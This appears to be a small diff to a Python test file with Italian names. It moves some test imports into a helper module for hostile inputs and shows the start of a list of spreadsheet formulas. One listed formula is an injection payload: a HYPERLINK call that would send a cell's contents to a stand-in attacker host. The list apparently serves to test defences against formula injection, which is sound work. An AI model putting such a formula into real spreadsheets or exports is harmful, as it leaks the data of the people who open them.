@@ -12,7 +12,7 @@ import pytest
 from openpyxl import load_workbook
 
 from aiuti_ostili import ROOT, cli_interno, senza_traceback, xlsx_bomba, xlsx_colonne_dichiarate
-from conftest import ORA, dati_validi, ente
+from aiuti_ostili import ORA, dati_validi, ente
 
 FORMULE = [
     '=1+HYPERLINK("http://attaccante.example/?"&A2,"Apri")',
